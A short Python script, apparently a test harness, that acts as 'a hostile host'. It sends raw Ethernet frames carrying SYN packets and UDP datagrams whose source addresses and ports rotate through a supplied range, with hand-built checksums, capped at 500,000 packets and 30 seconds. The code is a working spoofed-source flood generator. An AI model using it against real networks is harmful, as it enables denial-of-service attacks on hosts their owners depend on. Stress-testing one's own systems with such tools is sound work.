#!/usr/bin/python3
"""A hostile host: packets that begin sessions, each from another address and port of a range, as fast as this can.

    flood.py DEVICE DESTINATION_MAC FIRST_SOURCE LAST_SOURCE DESTINATION COUNT SECONDS_MAX

Half are SYNs to port 7009, which refuses, half datagrams to port 9. Prints how many were sent. Raw frames from one
socket; nothing listens for answers. Addresses may be IPv6.
"""

import socket
import struct
import sys
import time

device, mac, first, last, destination, count, seconds = sys.argv[1:]
family = socket.AF_INET6 if ":" in destination else socket.AF_INET
size = 16 if family == socket.AF_INET6 else 4
to = socket.inet_pton(family, destination)
first, last = (int.from_bytes(socket.inet_pton(family, text), "big") for text in (first, last))
count = min(int(count), 500_000)


def folded(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def frame(number):
    ends = (first + number % (last - first + 1)).to_bytes(size, "big") + to
    port = 1024 + number // 256 % 60000
    if number % 2 == 0:
        protocol = 6
        l4 = bytearray(struct.pack("!HHIIBBHHH", port, 7009, number, 0, 0x50, 2, 8192, 0, 0))
    else:
        protocol = 17
        l4 = bytearray(struct.pack("!HHHH", port, 9, 12, 0) + b"lead")
    struct.pack_into("!H", l4, 16 if protocol == 6 else 6, folded(ends + struct.pack("!HH", protocol, len(l4)) + l4))
    if size == 16:
        return header + struct.pack("!IHBB", 0x60000000, len(l4), protocol, 64) + ends + bytes(l4)
    ip = bytearray(struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(l4), 0, 0x4000, 64, protocol, 0) + ends)
    struct.pack_into("!H", ip, 10, folded(ip))
    return header + bytes(ip) + bytes(l4)


out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((device, 0))
header = bytes.fromhex(mac.replace(":", "")) + out.getsockname()[4] + (b"\x08\x00" if size == 4 else b"\x86\xdd")
end = time.monotonic() + min(float(seconds), 30)
sent = 0
while sent < count and time.monotonic() < end:
    try:
        out.send(frame(sent))
        sent += 1
    except BlockingIOError:
        pass
print(sent)
